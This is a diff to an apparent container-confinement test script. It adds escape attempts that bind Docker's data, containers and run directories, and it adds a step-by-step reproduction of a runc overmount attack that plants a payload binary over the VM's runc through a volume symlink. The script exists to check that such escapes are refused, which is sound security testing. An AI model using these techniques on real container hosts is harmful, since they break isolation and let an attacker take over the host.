@@ -58,6 +58,11 @@ ATTEMPTS=(
         "sock-root|-v /:/host|test -S /host/run/docker.sock && echo ESCAPED"
         "sock-named-volume-bind|-v ecirunvol:/r|test -S /r/docker.sock && echo ESCAPED"
         "data-root|-v /var/lib/docker:/d|test -d /d/overlay2 && echo ESCAPED"
+        "volumes-dir-as-volume|-v ecivolsvol:/vv|test -d /vv/ecirovol/_data && echo ESCAPED"
+        "containers-dir-as-volume|-v ecictrvol:/c|ls /c/*/config.v2.json >/dev/null 2>&1 && echo ESCAPED"
+        "containers-dir-as-mount-volume-opts|--mount type=volume,src=ecictrmnt,dst=/c,volume-driver=local,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/var/lib/docker/containers|ls /c/*/config.v2.json >/dev/null 2>&1 && echo ESCAPED"
+        "tmpfs-typed-volume-binding-run|-v ecitmprun:/r|test -S /r/docker.sock && echo ESCAPED"
+        "real-runc-bind|-v /usr/libexec/ecivm/runc:/r|test -s /r && echo ESCAPED"
         "image-layers|-v /var/lib/docker/overlay2:/o|ls /o/*/diff/bin/sh >/dev/null 2>&1 && echo ESCAPED"
         "remount-ro-bind-rw|--privileged -v ecirovol:/m:ro|mount -o remount,rw /m && touch /m/x && echo ESCAPED"
         "umount-ro-bind|--privileged -v ecirovol:/m:ro|umount /m && echo ESCAPED"
@@ -85,8 +90,14 @@ ATTEMPTS=(
 # the volumes some attempts use (the host socket's API filter refuses the
 # first one: its refusal is then the output)
 make_attempt_volumes() {
-        indocker volume create ecirovol >/dev/null &&
-                indocker volume create --driver local -o type=none -o o=bind -o device=/run ecirunvol 2>&1 >/dev/null
+        indocker volume create ecirovol >/dev/null || return 1
+        indocker volume create --driver local -o type=none -o o=bind -o device=/run ecirunvol 2>&1 >/dev/null
+        indocker volume create --driver local -o type=none -o o=bind -o device=/var/lib/docker/volumes ecivolsvol \
+                2>&1 >/dev/null
+        indocker volume create --driver local -o type=none -o o=bind -o device=/var/lib/docker/containers ecictrvol \
+                2>&1 >/dev/null
+        indocker volume create --driver local -o type=tmpfs -o o=bind -o device=/run ecitmprun 2>&1 >/dev/null
+        return 0
 }
 
 # run_attempt RUNTIME ENTRY: sets $out and $rc
@@ -142,4 +153,28 @@ judge_confined() {
                 not_ok "escape $name: neither refused with a reason nor started$via"
                 diag "$out"
         fi
+}
+
+# plant_runc_overmount RUNTIME: issue 14's first reproduction, through the
+# driver (no host filter): a volume bound to /var/lib/docker/volumes lets a
+# container (under RUNTIME) replace another volume's _data by a symlink to
+# the VM's runc; dockerd then binds the attacker's payload (a static binary
+# that marks ecipwn's volume when run) there at the next `docker run`.
+# Sets $plant (the planting container's output) and $overmount (that run's).
+plant_runc_overmount() {
+        local rt=$1
+        ${CC:-cc} -static -O2 -o "$T/payload" "$top_srcdir/tests/integration/probes/payload.c" || return 1
+        indocker volume create ecipwn >/dev/null &&
+                indocker create --name ecipwnh -v ecipwn:/v bb true >/dev/null || return 1
+        docker cp "$T/payload" "$DRIVER:/payload" && docker exec "$DRIVER" docker -H unix:///run/docker.sock \
+                cp /payload ecipwnh:/v/payload || return 1
+        indocker rm ecipwnh >/dev/null
+        indocker volume create --driver local -o type=none -o o=bind -o device=/var/lib/docker/volumes ecivvols \
+                >/dev/null || return 1
+        indocker volume create --driver local -o type=none -o o=bind \
+                -o device=/var/lib/docker/volumes/ecipwn/_data/payload ecivrunc >/dev/null || return 1
+        plant=$(indocker run --rm ${rt:+--runtime=$rt} -v ecivvols:/vv bb sh -c \
+                'rmdir /vv/ecivrunc/_data && ln -s /usr/libexec/ecivm/runc /vv/ecivrunc/_data && echo PLANTED' 2>&1)
+        overmount=$(indocker run --rm -v ecivrunc:/x bb true 2>&1)
+        return 0
 }
